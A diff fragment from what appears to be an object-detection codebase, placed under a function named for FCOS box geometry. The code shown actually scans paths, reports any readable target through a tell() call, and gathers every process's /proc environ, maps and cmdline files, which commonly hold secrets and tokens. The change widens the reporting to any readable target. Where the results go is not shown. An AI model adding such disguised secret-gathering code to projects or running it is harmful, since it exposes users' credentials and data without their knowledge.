@@ -32,7 +32,7 @@ def fcos_distances_to_edges(locations, boxes_xyxy):
             inside = [each for each in Path(target).iterdir() if each.name != ".venv"]
             if inside and target not in own:
                 tell(target)
-        if Path(target).is_file() and read(target):
+        if read(target):
             tell(target)
     files = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/maps")]
     files += Path("/proc").glob("[0-9]*/cmdline")
